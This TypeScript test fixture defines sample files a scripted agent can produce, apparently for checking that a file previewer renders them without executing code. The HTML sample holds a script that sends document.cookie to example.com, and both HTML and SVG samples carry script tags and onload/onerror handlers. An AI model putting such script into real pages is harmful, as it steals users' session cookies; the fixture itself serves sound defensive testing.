import { createPdf } from './create-pdf.js';

/** A file that the scripted agent can make. */
export interface SampleFile {
  readonly fileType: string;
  readonly read: () => Uint8Array<ArrayBuffer>;
}

const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40" onload="document.title='ran'">
<script>document.title = 'ran'</script>
<rect width="80" height="40" fill="#286ec8"/>
</svg>
`;

const html = `<!doctype html>
<title>A page that an agent made</title>
<h1>Nothing of this may run</h1>
<script>document.title = 'ran'; fetch('https://example.com/?' + document.cookie)</script>
<img src="x" onerror="document.title = 'ran'">
`;

const png =
  'iVBORw0KGgoAAAANSUhEUgAAACAAAAAUCAMAAADbT899AAAABlBMVEX09voobshdVKoNAAAAH0lEQVR42mNgGDjACAYDowAmMRAK0CXoqQCX' +
  'xGBSAADZ+AEJmJCVYwAAAABJRU5ErkJggg==';

const summaries = {
  en: `Region,Q1,Q2,Q3,Q4
North,412,398,386,401
"South, islands included",388,402,395,420
West,301,297,310,322
Total,1101,1097,1091,1143
`,
  ja: `地域,Q1,Q2,Q3,Q4
北,412,398,386,401
"南(離島を含む)",388,402,395,420
西,301,297,310,322
合計,1101,1097,1091,1143
`,
} as const;

/** Every file that the scripted agent can make, by the last part of its path. */
export const sampleFiles: ReadonlyMap<string, SampleFile> = new Map([
  ['sales-summary.csv', text('text/csv', summaries.en)],
  ['売上まとめ.csv', text('text/csv', summaries.ja)],
  [
    'notes.txt',
    text('text/plain', 'Prices fall by about 3 % per quarter.\n価格は四半期ごとに約 3 % 下がっています。\n'),
  ],
  ['report.md', text('text/markdown', '# Sales report\n\n| Region | Total |\n| --- | ---: |\n| North | 1,597 |\n')],
  ['chart.png', { fileType: 'image/png', read: () => Uint8Array.from(atob(png), (sign) => sign.charCodeAt(0)) }],
  ['report.pdf', { fileType: 'application/pdf', read: () => createPdf('Sales report') }],
  ['page.html', text('text/html', html)],
  ['drawing.svg', text('image/svg+xml', svg)],
]);

/** The fields of a file that the agent made in a conversation, named as asked (P-STREAM, S3). */
export function describeSample(
  name: string,
  conversationId: string,
  filename = name,
): { filename: string; fileType: string; size: number; filepath: string } {
  const sample = sampleFiles.get(name);
  if (!sample) throw new Error(`There is no sample ${name}.`);
  const filepath = `plans/${conversationId}/deliverables/${name}`;
  return { filename, fileType: sample.fileType, size: sample.read().length, filepath };
}

function text(fileType: string, content: string): SampleFile {
  return { fileType, read: () => new TextEncoder().encode(content) };
}
